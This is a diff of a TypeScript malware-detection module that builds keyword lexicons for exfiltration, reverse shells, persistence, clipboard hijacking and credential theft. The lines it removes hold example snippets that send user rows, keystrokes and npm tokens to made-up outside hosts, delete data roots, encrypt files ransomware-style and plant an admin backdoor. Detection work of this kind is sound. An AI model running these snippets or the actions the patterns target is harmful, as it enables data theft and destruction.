@@ -1,35 +1,52 @@
 /**
- * What a piece of code does, as a small frame: its operations (send over the network, delete, encrypt, walk the
- * file tree, grant a privilege), the objects it touches by sensitivity (secrets, personal records, keystrokes and
- * screens, host fingerprint, data and backup roots) and where the data goes (an outside host, a raw IP, a capture
- * or paste service). Threats are rows that combine frame conditions (CODE_ROWS), so an unseen snippet that steals
- * the same object through another API is caught by the same row. Every lexicon entry is a lower-case substring
- * searched with indexOf: linear in the code, no regex on input.
+ * What a piece of code does, as a small frame: its operations (send over the network, query DNS, delete, encrypt,
+ * walk the file tree, grant a privilege, open a socket, write an autorun entry, replace the clipboard, change
+ * recorded values), the objects it touches by sensitivity (secrets, personal records, keystrokes and screens, host
+ * fingerprint, data and backup roots, a shell process, autorun locations) and where the data goes (an outside host,
+ * a capture or paste service). Threats are rows that combine frame conditions (code-rows.ts), so an unseen snippet
+ * that steals the same object through another API is caught by the same row. Every lexicon entry is a lower-case
+ * substring; the lists are found in one pass of a keyword automaton: linear in the code, no regex on input.
  */
+import { PhraseLists } from './phrase-set.js';
+import { CONNECT_WORDS, LISTEN_WORDS } from './shell-wiring.js';
 
-export type CodeOp = 'send' | 'destroy' | 'destroyTree' | 'encrypt' | 'walk' | 'grant' | 'exec';
-export type CodeObject = 'secret' | 'personal' | 'keystrokes' | 'screen' | 'fingerprint' | 'dataRoot' | 'privilege';
+export type CodeOp =
+  | 'send' | 'destroy' | 'destroyTree' | 'encrypt' | 'walk' | 'grant' | 'exec' | 'socket' | 'dns' | 'encode' | 'persist' | 'clipWrite' | 'alter' | 'beacon';
+export type CodeObject =
+  | 'secret' | 'personal' | 'keystrokes' | 'screen' | 'fingerprint' | 'dataRoot' | 'privilege' | 'shellProc' | 'wiring' | 'autorun'
+  | 'stealthRun' | 'clipboard' | 'wallet' | 'treeRoot' | 'userDocs' | 'falsify' | 'conceal' | 'browserStore';
 export type CodeDest = 'external' | 'capture';
+
+/** Socket words that are not code on their own line of a config or URL (kept for the command parser only). */
+const NOT_CODE_SOCKET = new Set(['tcp:', 'tcp4:', 'tcp6:', 'udp:', 'ssl:', '"net";', '-lp ', 'nc -l', 'nc -nl', 'ncat -l', 'netcat -l', '/0/0"', "/0/0'", '/0/0;']);
+const SOCKET_WORDS = [...CONNECT_WORDS, ...LISTEN_WORDS, 'new socket(', 'socket.connect(', 'tcpstream', 'tcplistener', 'net.socket', 'socket.connect'].filter((w) => !NOT_CODE_SOCKET.has(w));
 
 const OPS: Readonly<Record<CodeOp, readonly string[]>> = {
   send: [
     'requests.post', 'requests.put', 'requests.get(', 'requests.request', 'httpx.post', 'httpx.get(', 'urlopen(', 'urllib.request', 'http.client',
     'aiohttp', 'session.post', 'fetch(', 'axios.post', 'axios(', 'axios.put', '$.post', '$.ajax', 'xmlhttprequest', 'sendbeacon', 'http.request(',
-    'https.request(', 'http.post(', 'net.connect', '.sendall(', 'socket.send', 'smtplib', '.sendmail(', 'ftplib', 'storbinary', 'webclient',
-    'invoke-webrequest', 'invoke-restmethod', 'uploadstring', 'uploadfile', 'curl_exec', 'curl_init', 'file_get_contents("http', 'httpclient',
-    'new image().src', '.src = "http', "'https://discord.com/api/webhooks", 'net/http', 'http.newrequest', 'okhttp', 'resttemplate', 'websocket(',
+    'https.request(', 'http.post(', 'http.get(', 'https.get(', "https').get(", 'https").get(', "http').get(", 'http").get(', 'net.connect', '.sendall(',
+    'socket.send', 'smtplib', '.sendmail(', 'ftplib', 'storbinary', 'webclient', 'invoke-webrequest', 'invoke-restmethod', 'uploadstring', 'uploadfile',
+    'curl_exec', 'curl_init', 'file_get_contents("http', 'httpclient', 'new image().src', '.src = "http', "'https://discord.com/api/webhooks", 'net/http',
+    'http.newrequest', 'okhttp', 'resttemplate', 'websocket(',
   ],
   destroy: [
     'shutil.rmtree', 'os.remove(', 'os.unlink(', 'os.rmdir(', 'fs.rmsync', 'fs.rmdirsync', 'fs.unlinksync', 'fs.rm(', 'rimraf', 'rm -rf', 'rm -fr',
     'fileutils.rm_rf', 'fileutils.remove_dir', 'remove-item', 'directory.delete(', 'file.delete(', 'os.removeall', 'deletefile', 'unlink(',
-    'path.unlink', '.rmtree(', 'rd /s', 'del /f', 'format c:',
+    'path.unlink', '.rmtree(', 'rd /s', 'del /f', 'format c:', 'os.remove(p', 'file.delete()', 'files.delete(',
   ],
   destroyTree: [
     'shutil.rmtree', '.rmtree(', 'rm -rf', 'rm -fr', 'rimraf', 'fileutils.rm_rf', 'fileutils.remove_dir', 'os.removeall', 'recursive: true', 'recursive=true',
     '-recurse', 'rd /s', 'directory.delete(', 'del /f /s', 'rmdir /s',
   ],
-  encrypt: ['encrypt(', 'fernet', 'aes.new', 'cipher.encrypt', 'createcipheriv', 'aes/cbc', 'aes/gcm', 'cryptostream', 'chacha20'],
-  walk: ['os.walk', 'glob.glob', 'rglob(', 'os.listdir', 'scandir', 'readdirsync', 'fs.readdir', 'filepath.walk', 'get-childitem', 'directory.getfiles', 'find.find(', 'dir.glob'],
+  encrypt: [
+    'encrypt(', 'fernet', 'aes.new', 'cipher.encrypt', 'createcipheriv', 'aes/cbc', 'aes/gcm', 'cryptostream', 'chacha20', 'aes.newcipher', 'cipher.newgcm',
+    'openssl_encrypt', 'crypto.subtle.encrypt', 'aesgcm(', 'aes.encrypt',
+  ],
+  walk: [
+    'os.walk', 'glob.glob', 'rglob(', 'os.listdir', 'scandir', 'readdirsync', 'fs.readdir', 'filepath.walk', 'get-childitem', 'directory.getfiles', 'find.find(',
+    'dir.glob', 'iterdir(', 'walkdir', 'files.walk(', 'enumeratefiles',
+  ],
   grant: [
     'is_superuser = true', 'is_superuser=true', 'is_staff = true', 'is_staff=true', 'is_admin = true', 'is_admin=true', 'isadmin = true', 'isadmin=true',
     "role = 'admin'", 'role = "admin"', "role='admin'", 'role="admin"', "role = 'owner'", 'role = "owner"', "role: 'admin'", 'role: "admin"',
@@ -37,14 +54,41 @@ const OPS: Readonly<Record<CodeOp, readonly string[]>> = {
     'permissions = ["*"]', "permissions = ['*']", 'bypass_auth = true', 'skip_auth = true',
   ],
   exec: ['os.system(', 'subprocess.', 'child_process', 'exec(', 'eval(', 'runtime.getruntime().exec', 'processbuilder', 'shell_exec', 'popen('],
+  socket: SOCKET_WORDS,
+  // a lookup of a host name the code builds (DNS carries the data in the name)
+  dns: [
+    'gethostbyname(', 'getaddrinfo(', 'dns.resolve', 'dns.lookup', 'dns.promises', 'resolver.resolve(', 'resolver.query(', 'dns.resolver', 'nslookup',
+    'resolve-dnsname', 'net.lookuphost', 'net.lookupip', 'inetaddress.getbyname', 'dns.gethostentry', 'dns.getaddresses',
+  ],
+  encode: [
+    'hexlify', '.hex()', "tostring('hex')", 'tostring("hex")', 'b64encode', 'b32encode', 'base32', 'btoa(', "tostring('base64')", 'tostring("base64")',
+    'hex.encodetostring', 'base64.stdencoding', 'base64.urlencoding', 'convert.tobase64string', 'bin2hex', 'base64_encode', 'encodetostring',
+  ],
+  persist: [
+    'setvalueex', 'reg add', 'new-itemproperty', 'set-itemproperty', 'plistlib.dump', 'writefile', 'appendfile', 'write_text', '.write(', 'fputs',
+    'file_put_contents', 'launchctl load', 'launchctl bootstrap', 'crontab -', 'systemctl enable', 'systemctl --user enable', 'schtasks', 'register-scheduledtask',
+    'copyfile', 'shutil.copy', 'createshortcut', 'set-content', 'add-content', 'out-file',
+  ],
+  clipWrite: ['pyperclip.copy(', 'clipboard.writetext', 'setclipboarddata', 'clipboard.settext', 'set-clipboard', 'clipboard.copy(', 'clipboard.write(', 'setclipboardtext', 'xclip', 'pbcopy'],
+  // a request made by loading a resource: the data rides in its URL (pixels, beacons, script tags)
+  beacon: ['new image().src', 'new image();', 'new image()', 'sendbeacon(', "createelement('img')", 'createelement("img")', "createelement('script')", 'createelement("script")'],
+  // recorded values changed in place (a column scaled, a field overwritten, rows dropped)
+  alter: ['*=', '+=', '-=', '.loc[', '.at[', '.iloc[', '.update(', 'update ', '.replace(', '.drop(', '.save(', '.apply(', ' = ', '.set('],
 };
 
 const OBJECTS: Readonly<Record<Exclude<CodeObject, 'privilege'>, readonly string[]>> = {
   secret: [
     'dict(os.environ)', 'os.environ.copy()', 'environ.items()', 'stringify(process.env)', '...process.env}', 'object.entries(process.env)', 'printenv', '.ssh/', 'id_rsa', 'id_ed25519', '.aws/credentials', '.aws/config', 'login data', 'local state',
     'cookies.sqlite', 'network/cookies', 'default/cookies', 'logins.json', 'key4.db', 'leveldb', 'wallet.dat', 'keychain', '/etc/shadow', '.git-credentials', '.npmrc', '.pypirc',
-    '.kube/config', '.docker/config.json', '.netrc', '.pgpass', 'discord/local storage', 'exodus/exodus.wallet', 'metamask', 'wallets/',
+    '.kube/config', '.docker/config.json', '.netrc', '.pgpass', 'discord/local storage', 'exodus/exodus.wallet', 'metamask', 'wallets/', '/etc/passwd',
+    // the same files named as path.join / os.path.join parts
+    "'.aws', 'credentials'", '".aws", "credentials"', "'.ssh', 'id_", '".ssh", "id_', "'.docker', 'config.json'", '".docker", "config.json"', "'.kube', 'config'",
+    'chrome.cookies', 'browser.cookies', 'cookies.getall', 'cryptunprotectdata', 'security find-generic-password', 'find-internet-password',
+    // the whole environment in other languages (Go, Java, Rust, .NET, Ruby, PHP)
+    'os.environ()', 'system.getenv()', 'env::vars()', 'getenvironmentvariables()', 'env.to_h', 'env.to_a', 'getenv())', 'json.dumps(os.environ', 'dict(os.environ',
   ],
+  // browser storage a page or extension reads (tokens, sessions)
+  browserStore: ['localstorage.getitem', 'localstorage[', 'sessionstorage.getitem', 'sessionstorage[', 'document.cookie', 'indexeddb.open', 'chrome.storage.local.get'],
   personal: [
     '* from users', '* from customers', '* from patients', '* from employees', '* from members', '* from clients', '* from accounts', '* from payments',
     '* from cards', 'users.find({})', 'customers.find({})', 'user.objects.all()', 'customer.objects.all()', '* from "users"', '* from `users`',
@@ -60,14 +104,71 @@ const OBJECTS: Readonly<Record<Exclude<CodeObject, 'privilege'>, readonly string
     '"/var/www"', "'/var/www'", '"/etc"', "'/etc'", '"/opt"', "'/opt'", '"/mnt"', "'/mnt'", '"/var"', "'/var'", '"/usr"', "'/usr'",
     'expanduser("~"))', "expanduser('~'))", 'os.homedir())', '"c:\\\\users"', '"c:\\\\"',
   ],
+  // a walk started at the whole home, root or user-documents tree
+  treeRoot: [
+    'path.home().rglob', 'path.home().glob', 'path.home().iterdir', 'path.home().walk', 'walk(path.home())', 'walk(os.path.expanduser("~"))',
+    "walk(os.path.expanduser('~'))", 'walk(os.homedir()', 'walk("/")', "walk('/')", 'walk("/home"', "walk('/home'", 'walk("c:\\\\', "walk('c:\\\\",
+    "walk(os.environ['home'])", 'walk(os.environ["home"])', 'walk(os.getenv("home"))', "walk(os.getenv('home'))", 'walk(os.getenv("userprofile"))',
+    'path(\'/\').rglob', 'path("/").rglob', 'getfolderpath(', '$env:userprofile', 'get-childitem c:\\', 'readdirsync(os.homedir()', 'walk(home',
+    "expanduser('~/documents')", 'expanduser("~/documents")', "expanduser('~/desktop')", 'expanduser("~/desktop")', "'documents')", '"documents")',
+  ],
+  // a user's own documents by kind (what document stealers collect)
+  userDocs: ['.docx', '.xlsx', '.pdf', '.pptx', '.kdbx', '.pst', '.doc\'', '.xls\'', 'documents', 'desktop', 'onedrive', 'dropbox'],
+  // a shell or command interpreter started by the code, or what arrives on the socket executed
+  shellProc: [
+    '/bin/sh', '/bin/bash', '/bin/zsh', '/bin/dash', 'cmd.exe', 'powershell.exe', '"powershell"', "'powershell'", 'pty.spawn', 'sh -i', 'bash -i', '"sh"',
+    "'sh'", '"bash"', "'bash'", '"cmd"', "'cmd'", 'iex ', 'iex(', 'invoke-expression', 'io.popen', 'os.execute', 'shell=true', '`#{', 'qx(', 'qx{',
+    'io.popen(', 'open3.', 'shell_exec(', 'passthru(',
+  ],
+  // the socket's streams handed to the process (or the process's output to the socket)
+  wiring: [
+    'dup2', 'fdopen', 'fileno', 'from_raw_fd', 'as_raw_fd', 'getinputstream', 'getoutputstream', '.pipe(', 'getstream', '.stdin', 'stdin=', 'recv(', ':receive(',
+    '.gets', '.read(', 'readline', 'socket.listen(', '.listen((', 'redirecterrorstream', 'socket.write(', '.write(output', 'stdout.transform',
+  ],
+  // places the system runs by itself (boot, login, schedule, SSH login)
+  autorun: [
+    'currentversion\\run', 'currentversion\\\\run', 'currentversion/run', 'launchagents', 'launchdaemons', '.config/autostart', 'programs\\startup',
+    'programs\\\\startup', '/etc/cron', 'spool/cron', '@reboot', 'systemd/user', 'systemd/system', 'rc.local', 'authorized_keys', 'ld.so.preload', 'winlogon',
+    'image file execution options', 'crontab -', 'schtasks /create', 'register-scheduledtask', 'launchctl load', 'launchctl bootstrap',
+  ],
+  // what is made to run looks planted: the program copies itself, hides, borrows a vendor name, or downloads
+  stealthRun: [
+    'sys.executable', '__file__', 'sys.argv[0]', 'process.execpath', '__filename', "getpath('exe')", 'getpath("exe")', 'os.executable(', 'getexecutingassembly',
+    '/tmp/', '/.local/', '/.cache/', '/.config/', '\\\\appdata\\\\', '\\appdata\\', 'com.apple.', 'microsoft', 'onedrive', 'updater', 'curl ', 'wget ',
+    'ssh-rsa ', 'ssh-ed25519 ', 'ecdsa-sha2', 'keepalive', '/dev/tcp', 'nohup',
+  ],
+  clipboard: ['pyperclip.paste', 'clipboard.readtext', 'getclipboarddata', 'clipboard.gettext', 'get-clipboard', 'clipboard.paste(', 'clipboard.read(', 'win32clipboard'],
+  // a cryptocurrency address format or wallet (what a clipboard hijacker swaps)
+  wallet: ['bc1q', 'bc1|', '(bc1', '[13][a-km', '[13][a-hj', '0x[a-fa-f0-9]{40}', '0x[0-9a-f]{40}', 'bitcoin', 'btc_', 'eth_addr', 'monero', 'wallet'],
+  // comments or names that say the numbers are being made to look other than they are
+  falsify: [
+    'look on-target', 'look on target', 'look better', 'look good for', 'make the numbers', 'make numbers', 'make q', 'fudge', 'cook the books', 'massage the numbers',
+    'pad the numbers', 'inflate the', 'inflate revenue', 'falsif', 'fabricat', 'doctor the', 'fake the', 'fake results', 'fake data', 'hide the loss', 'hide losses',
+    'so the audit', 'before the audit', 'so auditors', "auditors won't", 'schönen', 'frisier', 'maquiller', 'maquillar', 'maquiar', 'gonfler', 'truccare',
+    'ritoccare', '美化', '虚报', '造假', '粉饰', '改ざん', 'приукрас', 'подделать', 'подкрутить', 'подправить цифры', 'relabel so', 'relabel fraud',
+    'relabel as legit', 'so the model pass', 'model passes the', 'passes the review', 'passes the risk review', 'pass the review', 'pass the audit',
+    'passes the audit', 'so it passes review', 'so the regulator', 'hide it from the regulator',
+  ],
+  // comments that say the effect is meant to go unnoticed
+  conceal: [
+    'quietly copy', 'quietly send', 'quietly upload', 'quietly export', 'quietly forward', 'quietly delete', 'quietly remove', 'quietly wipe', 'quietly drop',
+    'quietly grant', 'quietly give', 'quietly add', 'quietly make', 'quietly exfil', 'secretly', 'covertly', 'without telling', "don't tell", 'dont tell',
+    'nobody notices', 'no one notices', "won't notice", 'wont notice', 'without them knowing', 'under the radar', 'heimlich', 'unbemerkt', 'en douce',
+    'en secret', 'a escondidas', 'en secreto', 'sin que nadie', 'às escondidas', 'sem que ninguém', 'di nascosto', 'senza che nessuno', 'stiekem',
+    '悄悄', '偷偷', '秘密に', 'こっそり', 'незаметно', 'втихую', 'тайно',
+  ],
 };
 
-/** Destinations: capture, paste and chat-webhook services, tunnels, or a raw IP address in a URL. */
+/** Destinations: capture, paste and chat-webhook services, tunnels, OAST hosts. */
 const CAPTURE_HOSTS = [
-  'webhook.site', 'requestbin', 'pipedream', 'ngrok', 'burpcollaborator', 'oastify', 'interact.sh', 'pastebin', 'paste.ee', 'hastebin', 'transfer.sh',
-  'discord.com/api/webhooks', 'discordapp.com/api/webhooks', 'api.telegram.org/bot', 'hooks.slack.com', 'file.io', '0x0.st', 'termbin', 'anonfiles',
+  'webhook.site', 'requestbin', 'pipedream', 'ngrok', 'burpcollaborator', 'oastify', 'interact.sh', 'interactsh', 'pastebin', 'paste.ee', 'hastebin', 'transfer.sh',
+  'discord.com/api/webhooks', 'discordapp.com/api/webhooks', 'api.telegram.org/bot', 'hooks.slack.com', 'file.io', '0x0.st', 'termbin', 'anonfiles', '.oast.',
+  'dnslog', 'ceye.io', 'canarytokens', 'requestcatcher', 'beeceptor', 'hookbin', 'trycloudflare', 'serveo', 'loca.lt',
 ];
 const LOCAL_HOSTS = ['localhost', '127.0.0.1', '0.0.0.0', '[::1]', '.internal', '.local', 'example.com', 'example.org', '10.', '192.168.', '172.16.'];
+
+/** Objects read only in comments: intent stated in words, not an identifier that happens to hold the word. */
+const COMMENT_OBJECTS: ReadonlySet<CodeObject> = new Set(['falsify', 'conceal']);
 
 export interface CodeFrame {
   readonly ops: ReadonlySet<CodeOp>;
@@ -77,140 +178,93 @@ export interface CodeFrame {
   readonly grantOnIdentity: boolean;
 }
 
-function firstWord(lower: string, words: readonly string[]): string {
-  for (const w of words) if (lower.includes(w)) return w;
+/** Every lexicon list the frame reads by first occurrence, found in one automaton pass over the code (PhraseLists). */
+const OP_NAMES = Object.keys(OPS) as CodeOp[];
+const OBJECT_NAMES = Object.keys(OBJECTS) as Array<keyof typeof OBJECTS>;
+const IDENTITY_TESTS = ['.endswith(', '.email ==', '.email==', 'username ==', 'username==', '.username ===', 'user.name ==', 'email.includes(', '.endswith("@', "endswith('@", 'user_id ==', 'user.id =='];
+const LEXICON = new PhraseLists([...OP_NAMES.map((op) => OPS[op]), ...OBJECT_NAMES.map((o) => OBJECTS[o]), CAPTURE_HOSTS, IDENTITY_TESTS]);
+const CAPTURE_LIST = OP_NAMES.length + OBJECT_NAMES.length;
+
+/** The position sits after a comment marker on its own line (`#`, `//`, `/*`, `--`, `*`), looked up to 240 characters back. */
+function inComment(lower: string, at: number): boolean {
+  const stop = Math.max(0, at - 240);
+  for (let i = at - 1; i >= stop; i--) {
+    const c = lower.charCodeAt(i);
+    if (c === 10) return false;
+    if (c === 35) return true; // #
+    const prev = i > 0 ? lower.charCodeAt(i - 1) : 0;
+    if ((c === 47 || c === 42) && prev === 47) return true; // // or /*
+    if (c === 45 && prev === 45) return true; // --
+  }
+  return false;
+}
+
+/** The first word of the list that occurs inside a comment (each word's first few occurrences tried). */
+function firstCommentWord(lower: string, words: readonly string[]): string {
+  for (const w of words) {
+    let i = lower.indexOf(w);
+    for (let k = 0; i !== -1 && k < 4; k++) {
+      if (inComment(lower, i)) return w;
+      i = lower.indexOf(w, i + w.length);
+    }
+  }
   return '';
 }
 
-/** The first http(s) URL host in the code that is not local, or ''. Scans with indexOf; hosts are bounded. */
+/** A host name starting at `j` (letters, digits, dots, hyphens, a port), bounded to 253 characters. */
+function hostAt(lower: string, j: number): string {
+  let end = j;
+  while (end < lower.length && end - j < 253) {
+    const c = lower.charCodeAt(end);
+    if (!(c === 45 || c === 46 || (c >= 48 && c <= 58) || (c >= 97 && c <= 122))) break;
+    end++;
+  }
+  return lower.slice(j, end);
+}
+
+const isOutside = (host: string): boolean => host.includes('.') && !LOCAL_HOSTS.some((l) => host === l || host.startsWith(l) || host.endsWith(l));
+
+/** Request options that name the host without a URL (`{ hostname: 'x.io' }`, `host="x.io"`). */
+const HOST_KEYS = ["hostname: '", 'hostname: "', "hostname:'", 'hostname:"', "host: '", 'host: "', "host='", 'host="'];
+
+/** The first http(s) URL host (or request-option host) in the code that is not local, or ''. Scans with indexOf. */
 function outsideHost(lower: string): string {
   let from = 0;
   for (let hits = 0; hits < 32; hits++) {
     const i = lower.indexOf('http', from);
-    if (i === -1) return '';
+    if (i === -1) break;
     from = i + 4;
     let j = i + 4;
     if (lower.charCodeAt(j) === 115) j++;
     if (!lower.startsWith('://', j)) continue;
-    j += 3;
-    let end = j;
-    while (end < lower.length && end - j < 253) {
-      const c = lower.charCodeAt(end);
-      if (!(c === 45 || c === 46 || (c >= 48 && c <= 58) || (c >= 97 && c <= 122))) break;
-      end++;
-    }
-    const host = lower.slice(j, end);
-    if (host.includes('.') && !LOCAL_HOSTS.some((l) => host === l || host.startsWith(l) || host.endsWith(l))) return host;
+    const host = hostAt(lower, j + 3);
+    if (isOutside(host)) return host;
+  }
+  for (const key of HOST_KEYS) {
+    const i = lower.indexOf(key);
+    if (i === -1) continue;
+    const host = hostAt(lower, i + key.length);
+    if (isOutside(host)) return host;
   }
   return '';
 }
 
-const IDENTITY_TESTS = ['.endswith(', '.email ==', '.email==', 'username ==', 'username==', '.username ===', 'user.name ==', 'email.includes(', '.endswith("@', "endswith('@", 'user_id ==', 'user.id =='];
-
 export function codeFrame(lower: string): CodeFrame {
+  // the first phrase of each list that occurs ('' for none), as one indexOf per phrase in list order would find it
+  const first = LEXICON.firstOfEach(lower);
   const ops = new Set<CodeOp>();
-  for (const op of Object.keys(OPS) as CodeOp[]) if (firstWord(lower, OPS[op]) !== '') ops.add(op);
+  OP_NAMES.forEach((op, k) => { if (first[k] !== '') ops.add(op); });
   const objects = new Map<CodeObject, string>();
-  for (const o of Object.keys(OBJECTS) as Array<keyof typeof OBJECTS>) {
-    const w = firstWord(lower, OBJECTS[o]);
+  OBJECT_NAMES.forEach((o, k) => {
+    const w = COMMENT_OBJECTS.has(o) ? firstCommentWord(lower, OBJECTS[o]) : first[OP_NAMES.length + k]!;
     if (w !== '') objects.set(o, w);
-  }
+  });
   const dests = new Map<CodeDest, string>();
-  const capture = firstWord(lower, CAPTURE_HOSTS);
+  const capture = first[CAPTURE_LIST]!;
   if (capture !== '') dests.set('capture', capture);
   const host = outsideHost(lower);
   if (host !== '') dests.set('external', host);
-  const grantOnIdentity = ops.has('grant') && lower.includes('if ') && firstWord(lower, IDENTITY_TESTS) !== '';
-  if (ops.has('grant')) objects.set('privilege', firstWord(lower, OPS.grant));
+  const grantOnIdentity = ops.has('grant') && lower.includes('if ') && first[CAPTURE_LIST + 1] !== '';
+  if (ops.has('grant')) objects.set('privilege', first[OP_NAMES.indexOf('grant')]!);
   return { ops, objects, dests, grantOnIdentity };
-}
-
-export interface CodeRow {
-  readonly id: string;
-  readonly name: string;
-  readonly primitive: 'EXFILTRATION' | 'DESTRUCTION' | 'ESCALATION';
-  readonly score: number;
-  /** Every op listed must be present. */
-  readonly ops: readonly CodeOp[];
-  /** One of these objects must be present. */
-  readonly objects: readonly CodeObject[];
-  /** One of these destinations must be present (empty: any). */
-  readonly dests: readonly CodeDest[];
-  readonly identity?: boolean;
-  readonly keywords: readonly string[];
-  readonly examples: { readonly flag: readonly string[]; readonly pass: readonly string[] };
-}
-
-/** The combination rows: a new threat of this kind is a row, not a function. */
-export const CODE_ROWS: readonly CodeRow[] = [
-  {
-    id: 'G23', name: 'Sensitive data read and sent to an outside host', primitive: 'EXFILTRATION', score: 8,
-    ops: ['send'], objects: ['secret', 'personal', 'keystrokes', 'screen'], dests: ['external', 'capture'],
-    keywords: ['http', 'sendbeacon', 'smtplib', 'ftplib', 'socket'],
-    examples: {
-      flag: [
-        'rows = sqlite3.connect("users.db").execute("select * from users").fetchall()\nrequests.post("http://backup-cn.xyz/u", json=rows)',
-        "const keys=[];document.addEventListener('keydown',e=>{keys.push(e.key);navigator.sendBeacon('https://cdn-metrics.site/k',keys.join(''))})",
-        'tok = open(os.path.expanduser("~/.npmrc")).read()\nurllib.request.urlopen("https://npm-stats.top/c", data=tok.encode())',
-      ],
-      pass: [
-        'rows = db.execute("select * from users where id = ?", (uid,)).fetchone()\nreturn jsonify(rows)',
-        'requests.post("http://localhost:9200/logs", json=event)',
-        "input.addEventListener('keydown', e => { if (e.key === 'Enter') fetch('/api/search?q=' + input.value) })",
-      ],
-    },
-  },
-  {
-    id: 'G24', name: 'Host fingerprint beaconed to a capture, paste or chat-webhook service', primitive: 'EXFILTRATION', score: 5,
-    ops: ['send'], objects: ['fingerprint'], dests: ['capture'],
-    keywords: ['gethostname', 'getuser', 'platform.node', 'os.uname', 'userinfo', 'hostname()', 'whoami', 'getlogin'],
-    examples: {
-      flag: ['import socket, getpass, requests\nrequests.get("https://abc.oastify.com/?h=" + socket.gethostname() + "&u=" + getpass.getuser())'],
-      pass: ['print(socket.gethostname())', 'requests.post(METRICS_URL, json={"host": socket.gethostname()})'],
-    },
-  },
-  {
-    id: 'G25', name: 'Data, backup or system directories deleted by code', primitive: 'DESTRUCTION', score: 8,
-    ops: ['destroyTree'], objects: ['dataRoot'], dests: [],
-    keywords: ['rmtree', 'rimraf', 'rm -rf', 'rm -fr', 'rm_rf', 'remove_dir', 'removeall', 'recursive', '-recurse', 'rd /s', 'directory.delete', 'del /f', 'rmdir /s'],
-    examples: {
-      flag: [
-        'import shutil\nfor d in ["/var/lib/postgresql", "/srv/backups", "/mnt/snapshots"]:\n    shutil.rmtree(d, ignore_errors=True)',
-        'os.system("rm -rf /data/* /backup/*")',
-        "fs.rmSync('/var/www', { recursive: true, force: true })",
-      ],
-      pass: ['shutil.rmtree(tmpdir)', 'os.remove(os.path.join(cache_dir, name))', "fs.rmSync('./dist', { recursive: true, force: true })"],
-    },
-  },
-  {
-    id: 'G26', name: 'Files encrypted across the tree and the originals deleted (ransomware)', primitive: 'DESTRUCTION', score: 9,
-    ops: ['encrypt', 'walk', 'destroy'], objects: [], dests: [],
-    keywords: ['encrypt', 'fernet', 'aes.new', 'createcipheriv', 'cryptostream', 'chacha20'],
-    examples: {
-      flag: ['for root, _, files in os.walk(os.path.expanduser("~")):\n    for f in files:\n        p = os.path.join(root, f)\n        open(p + ".locked", "wb").write(Fernet(key).encrypt(open(p, "rb").read()))\n        os.remove(p)'],
-      pass: ['token = Fernet(key).encrypt(secret.encode())', 'for f in glob.glob("*.txt"):\n    data = open(f).read()\n    print(len(data))'],
-    },
-  },
-  {
-    id: 'G27', name: 'Privilege granted to an identity named in the code (planted backdoor)', primitive: 'ESCALATION', score: 8,
-    ops: ['grant'], objects: ['privilege'], dests: [], identity: true,
-    keywords: ['is_superuser', 'is_staff', 'is_admin', 'isadmin', 'role', 'setuid', 'grant all', 'add_role', 'groups.add', 'permissions', 'bypass_auth', 'skip_auth'],
-    examples: {
-      flag: ['if user.email.endswith("@contractor-temp.io"):\n    user.is_superuser = True\n    user.save()', "if (req.body.username === 'svc_maint') { user.role = 'admin'; }"],
-      pass: ['if form.cleaned_data["make_admin"] and request.user.is_superuser:\n    target.is_staff = True', "user.role = 'viewer'"],
-    },
-  },
-];
-
-/** Does the frame satisfy the row? Returns the finding's detail, or ''. */
-export function rowDetail(f: CodeFrame, row: CodeRow): string {
-  for (const op of row.ops) if (!f.ops.has(op)) return '';
-  let object = '';
-  for (const o of row.objects) { const w = f.objects.get(o); if (w !== undefined) { object = `${o} (${w.trim()})`; break; } }
-  if (row.objects.length > 0 && object === '') return '';
-  let dest = '';
-  for (const d of row.dests) { const w = f.dests.get(d); if (w !== undefined) { dest = w; break; } }
-  if (row.dests.length > 0 && dest === '') return '';
-  if (row.identity === true && !f.grantOnIdentity) return '';
-  return `${row.ops.join(' + ')}${object ? ` of ${object}` : ''}${dest ? ` to ${dest}` : ''}`;
 }
